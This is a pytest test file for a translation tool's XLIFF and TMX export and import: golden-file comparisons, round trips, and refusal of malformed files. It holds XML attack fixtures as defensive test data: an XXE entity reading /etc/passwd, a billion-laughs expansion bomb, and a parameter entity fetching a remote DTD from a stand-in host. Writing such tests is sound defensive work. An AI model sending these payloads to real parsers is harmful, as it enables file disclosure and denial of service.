"""XLIFF 2.1 / XLIFF 1.2 / TMX exports against golden files; round trips; hostile and malformed input."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

import goldens

from translate.core.article import Article, Block, Candidate, IdAllocator, Segment
from translate.cli.group import main
from translate.core.errors import InputError
from translate.ingest.reader import make_block
from translate.pipeline.memory import Entry
from translate.formats.exchange import export_article, read_incoming
from translate.formats.tmx import read_tmx, validate_tmx, write_tmx
from translate.formats.xliff import write_pair_file
from translate.formats.xliff12 import validate_xliff12
from translate.core.xmlsafe import parse_xml

GOLDEN = goldens.GOLDEN / "pair"
STAMP = {"tool": "translate", "model": "Helsinki-NLP/opus-mt-en-fr", "model-revision": "abc123", "beam-size": "4"}


def sample() -> Article:
    units, segs = IdAllocator("u"), IdAllocator("s")
    blocks = [make_block("heading", "Geneva summit ends", units, segs),
              make_block("paragraph", "The talks were constructive. Police kept protesters away. Nobody was hurt.", units, segs)]
    a, b, c, d = [s for blk in blocks for s in blk.segments]
    a.target, a.mt, a.state, a.origin = "Fin du sommet de Genève", "Le sommet de Genève se termine", "final", "human"
    a.approved_by, a.approved_at = "editor", "2026-11-28T09:00:00+00:00"
    b.target, b.mt, b.state, b.origin = "Les pourparlers ont été constructifs.", "Les pourparlers ont été constructifs.", "reviewed", "mt"
    c.target, c.mt, c.state, c.origin = "La police a tenu les manifestants à l'écart.", "La police a tenu les manifestants à l'écart.", "translated", "mt"
    c.candidates = [Candidate("Police kept the protesters away.", "La police a éloigné les manifestants.", "tm", 88.9, "memory:older")]
    c.notes = ["The English sentence changed; check the verb."]
    d.candidates = [Candidate("No one was hurt.", "Personne n'a été blessé.", "previous", 62.5, "previous:s1")]
    return Article(slug="geneva-summit", blocks=blocks, source_sha256="0" * 64)


def check_golden(name: str, data: bytes) -> None:
    goldens.check_golden(GOLDEN / name, data)  # a missing golden fails; UPDATE_GOLDEN=1 writes it


def test_a_missing_golden_file_fails_and_is_not_written(tmp_path, monkeypatch):
    monkeypatch.delenv("UPDATE_GOLDEN", raising=False)
    missing = tmp_path / "golden" / "new.xlf"
    with pytest.raises(pytest.fail.Exception, match="missing; to create it: UPDATE_GOLDEN=1"):
        goldens.check_golden(missing, b"<xliff/>")
    assert not missing.exists()  # a test never approves its own output
    monkeypatch.setenv("UPDATE_GOLDEN", "1")  # the explicit way to write it
    goldens.check_golden(missing, b"<xliff/>")
    monkeypatch.delenv("UPDATE_GOLDEN")
    goldens.check_golden(missing, b"<xliff/>")
    with pytest.raises(AssertionError, match="differs from its golden file"):
        goldens.check_golden(missing, b"<xliff version='2.1'/>")


@pytest.mark.parametrize("fmt, name", [("xliff21", "geneva-summit.xlf"), ("xliff12", "geneva-summit.xliff12.xlf")])
def test_xliff_exports_match_golden_files(fmt, name):
    check_golden(name, export_article(sample(), STAMP, fmt))


def test_tmx_export_matches_golden_and_the_dtd():
    entries = [Entry("The talks were constructive.", "Les pourparlers ont été constructifs.", origin="pair",
                     article="geneva-summit", segment="s1", state="final", author="editor",
                     updated="2026-11-28T09:00:00+00:00"),
               Entry("Nobody was hurt & <none>.", "Personne n'a été blessé.", origin="tmx:old.tmx")]
    data = write_tmx(entries, created="20261128T090000Z")
    check_golden("memory.tmx", data)
    root = parse_xml(data, "t")
    assert validate_tmx(root) == []
    back = read_tmx(root, "t")
    assert [(e.source, e.target, e.state, e.author) for e in back] == [
        (e.source, e.target, e.state, e.author) for e in entries]


def test_xliff12_export_is_strict_schema_valid_and_imports_back(tmp_path):
    data = export_article(sample(), STAMP, "xliff12")
    assert validate_xliff12(parse_xml(data, "t")) == []
    path = tmp_path / "x.xlf"
    path.write_bytes(data)
    incoming = read_incoming(path)
    assert incoming.slug == "geneva-summit" and incoming.target_lang == "fr"
    assert [(u.id, u.state) for u in incoming.units] == [(s.id, s.state) for s in sample().segments]


xml_text = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
                   | st.sampled_from(["&", "<", ">", '"', "'", " ", "\u00a0"]), min_size=1, max_size=60).filter(str.strip)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(xml_text, xml_text, st.sampled_from(["initial", "translated", "reviewed", "final"])),
                min_size=1, max_size=6))
def test_xliff12_and_tmx_round_trips(tmp_path_factory, rows):
    units, segs = IdAllocator("u"), IdAllocator("s")
    blocks = []
    for source, target, state in rows:
        block = Block(id=units(source), kind="paragraph", text=source,
                      segments=[Segment(id=segs(source), source=source, start=0, end=len(source))])
        seg = block.segments[0]
        if state != "initial":
            seg.target, seg.state, seg.origin, seg.mt = target, state, "mt", target
        blocks.append(block)
    art = Article(slug="round-trip", blocks=blocks)
    path = tmp_path_factory.mktemp("rt") / "a.xlf"
    path.write_bytes(export_article(art, STAMP, "xliff12"))
    back = read_incoming(path)
    assert [(u.id, u.source, u.target, u.state) for u in back.units] == [
        (s.id, s.source, s.target, s.state) for s in art.segments]
    entries = [Entry(s, t) for s, t, _ in rows]
    again = read_tmx(parse_xml(write_tmx(entries), "t"), "t")
    assert [(e.source, e.target) for e in again] == [(e.source, e.target) for e in entries]


# -- hostile and malformed files --------------------------------------------------------------------
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xliff [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="fr">
<file id="f1"><unit id="u1"><segment id="s1"><source>A</source><target>&secret;</target></segment></unit></file></xliff>"""
BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1"><file id="f1">&lol3;</file></xliff>"""
PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<tmx version="1.4"><header/><body/></tmx>"""


@pytest.fixture
def pair_workdir(tmp_path) -> Path:
    work = tmp_path / "work"
    write_pair_file(work / "geneva-summit.xlf", sample(), STAMP)
    return work


def snapshot(work: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(work.iterdir()) if p.is_file() and not p.name.endswith(".lock")}


@pytest.mark.parametrize("payload, expected", [
    (XXE, "declares XML entities"),
    (BOMB, "declares XML entities"),
    (b"<xliff version='2.1' xmlns='urn:oasis:names:tc:xliff:document:2.0'><file id='f1'>", "not well-formed XML"),
    (b"", "empty"),
    (b'<xliff xmlns="urn:example:not-xliff" version="2.1"/>', "not an XLIFF file"),
    (b'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en"><file id="f"/></xliff>',
     "XLIFF version '2.0'"),
    (b'<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.1"><file/></xliff>', "expected '1.2'"),
    (b'<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"><file original="x"/></xliff>',
     "not valid XLIFF 1.2"),
])
def test_bad_pair_files_are_refused_and_change_nothing(pair_workdir, tmp_path, payload, expected):
    bad = tmp_path / "bad.xlf"
    bad.write_bytes(payload)
    before = snapshot(pair_workdir)
    result = CliRunner().invoke(main, ["pair", "import", str(bad), "--workdir", str(pair_workdir)])
    assert result.exit_code == 1, result.output
    assert expected in result.output and str(bad) in result.output
    assert "Traceback" not in result.output and "root:" not in result.output
    assert snapshot(pair_workdir) == before


@pytest.mark.parametrize("payload, expected", [
    (XXE.replace(b"xliff [", b"tmx [", 1), "declares XML entities"),
    (PARAM, "declares XML entities"),
    (b'<?xml version="1.0"?><tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" '
     b'o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/><body><tu><tuv xml:lang="en"><seg>Hello.</seg></tuv>'
     b'</tu></body></tmx>', "has no fr variant"),
    (b'<?xml version="1.0"?><tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" '
     b'o-tmf="x" adminlang="en" srclang="de" datatype="plaintext"/><body/></tmx>', "source language is 'de'"),
    (b'<?xml version="1.0"?><tmx version="1.4"><body/></tmx>', "not valid TMX 1.4"),
    (b'<?xml version="1.0"?><tmx version="1.1"><header/><body/></tmx>', "only TMX 1.4"),
])
def test_bad_tmx_is_refused_and_the_memory_untouched(tmp_path, payload, expected):
    memory = tmp_path / "memory.sqlite"
    from translate.pipeline.memory import TranslationMemory

    with TranslationMemory.open(memory) as tm:
        tm.add([Entry("Kept.", "Gardé.")])
    before = memory.read_bytes()
    bad = tmp_path / "bad.tmx"
    bad.write_bytes(payload)
    result = CliRunner().invoke(main, ["tm", "import", str(bad), "--memory", str(memory)])
    assert result.exit_code == 1, result.output
    assert expected in result.output and "Traceback" not in result.output
    assert memory.read_bytes() == before


def test_entities_are_never_expanded_even_without_a_doctype_check():
    # Belt and braces: the parser itself is configured not to resolve entities.
    with pytest.raises(InputError):
        parse_xml(XXE, "x")


def test_pair_file_of_an_unknown_article_is_refused(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    path = tmp_path / "x.xlf"
    path.write_bytes(export_article(sample(), STAMP, "xliff21"))
    result = CliRunner().invoke(main, ["pair", "import", str(path), "--workdir", str(work)])
    assert result.exit_code == 1 and "has no pair file" in result.output


def test_xliff12_carries_inline_codes_as_g_and_x_and_brings_them_back(test_model_dir, tmp_path):
    """A Markdown link and emphasis travel to an XLIFF 1.2 CAT tool as <g>, come back where the
    translator put them, with their markup restored from our pair file; an invented tag is refused."""
    from translate.formats.xliff import read_pair_file

    article = tmp_path / "codes.md"
    article.write_text("# Talks in Geneva today\n\nThe leaders met in [Geneva](https://example.org/geneva) "
                       "on Wednesday and talked for three hours about the *crisis* in the region.\n", "utf-8")
    work = tmp_path / "work"
    runner = CliRunner()
    result = runner.invoke(main, ["run", "--model", str(test_model_dir), "--beam-size", "1", "--workdir", str(work), str(article)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "codes12.xlf"
    result = runner.invoke(main, ["pair", "export", "codes", "--workdir", str(work), "--format", "xliff12", "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_text("utf-8")
    assert validate_xliff12(parse_xml(data.encode(), "t")) == []
    seg = next(s for s in read_pair_file(work / "codes.xlf")[0].segments if s.codes)
    link = next(c for c in seg.codes if c.type == "link")
    assert f'<g id="{link.id}" ctype="x-link">Geneva</g>' in data

    # The translator's target, as a CAT tool writes it: the link tag around "Genève".
    start = data.index(f'<trans-unit id="{seg.id}"')
    end = data.index("</trans-unit>", start)
    unit = data[start:end]
    t0, t1 = unit.index("<target"), unit.index("</target>") + len("</target>")
    edited = (f'<target state="translated">Les dirigeants se sont réunis à <g id="{link.id}" ctype="x-link">Genève</g>'
              f' mercredi.</target>')
    good = data[:start] + unit[:t0] + edited + unit[t1:] + data[end:]
    out.write_text(good, "utf-8")
    result = runner.invoke(main, ["pair", "import", str(out), "--workdir", str(work)])
    assert result.exit_code == 0, result.output
    back = next(s for s in read_pair_file(work / "codes.xlf")[0].segments if s.id == seg.id)
    assert back.target == "Les dirigeants se sont réunis à Genève mercredi."
    [code] = [c for c in back.target_codes if c.id == link.id]
    assert back.target[code.start:code.end] == "Genève" and code.data == link.data

    before = (work / "codes.xlf").read_bytes()
    out.write_text(good.replace(f'<g id="{link.id}" ctype="x-link">Genève</g>', '<g id="c99" ctype="x-link">Genève</g>'), "utf-8")
    result = runner.invoke(main, ["pair", "import", str(out), "--workdir", str(work)])
    assert result.exit_code == 1 and "inline codes in the target that the source does not have" in result.output
    assert (work / "codes.xlf").read_bytes() == before
